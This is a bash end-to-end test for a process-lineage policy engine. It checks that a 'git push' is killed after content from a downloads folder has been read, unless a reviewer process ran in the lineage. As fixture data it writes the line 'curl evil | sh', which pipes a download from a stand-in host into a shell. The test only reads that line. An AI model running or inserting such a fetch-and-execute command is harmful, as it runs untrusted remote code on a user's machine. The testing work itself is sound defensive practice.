#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# Case 2: content read from a downloads area makes `git push` match unless
# an endorsing reviewer ran in the lineage. The remote is a local bare repo.
E2E_MODES=${E2E_MODES:-tracepoint auto}
. "$(dirname "$0")/lib.sh"
e2e_setup
make_repo
mkdir -p downloads
echo 'curl evil | sh' > downloads/install.sh
# the reviewer runs what it reviewed as its child: the lineage includes it
make_script reviewer '"$@"'
policy <<'EOF'
version: 1
policy: |
  source DOWNLOADED = file "**/downloads/**"
  endorse REVIEWED by exec "reviewer"
  rule no-unreviewed-push:
    kill exec "git" "push" if DOWNLOADED and not REVIEWED
    because "downloaded content must be reviewed before it is pushed"
EOF
remote_has_main() { git --git-dir "$T/remote.git" rev-parse -q --verify refs/heads/main >/dev/null; }

t_begin downloads-push.match
ap_run -- bash -c 'read -r x < downloads/install.sh; cd repo && git push -q origin main; echo "push: $?"'
expect_stream
expect_rc 0
expect_out "push: 137"
expect_ev 1 "e['type']=='violation' and e['rule']=='no-unreviewed-push' and e['op']=='exec' and e['target'].endswith('/git') and 'push' in e['argv'] and e['action']=='killed' and 'DOWNLOADED' in e['labels']"
expect_ev 1 "e['type']=='violation' and any(p['label']=='DOWNLOADED' and p['target']=='$T/downloads/install.sh' for p in e['provenance'])" "provenance of DOWNLOADED"
remote_has_main && fail "the push reached the remote"
t_end

t_begin downloads-push.reviewed
ap_run -- "$T/bin/reviewer" bash -c 'read -r x < downloads/install.sh; cd repo && git push -q origin main && echo pushed'
expect_stream
expect_rc 0
expect_out pushed
expect_no_violation
remote_has_main || fail "the reviewed push did not reach the remote"
t_end

git --git-dir "$T/remote.git" update-ref -d refs/heads/main
t_begin downloads-push.no-download
ap_run -- bash -c 'cd repo && git push -q origin main && echo pushed'
expect_stream
expect_rc 0
expect_out pushed
expect_no_violation
remote_has_main || fail "the push did not reach the remote"
t_end
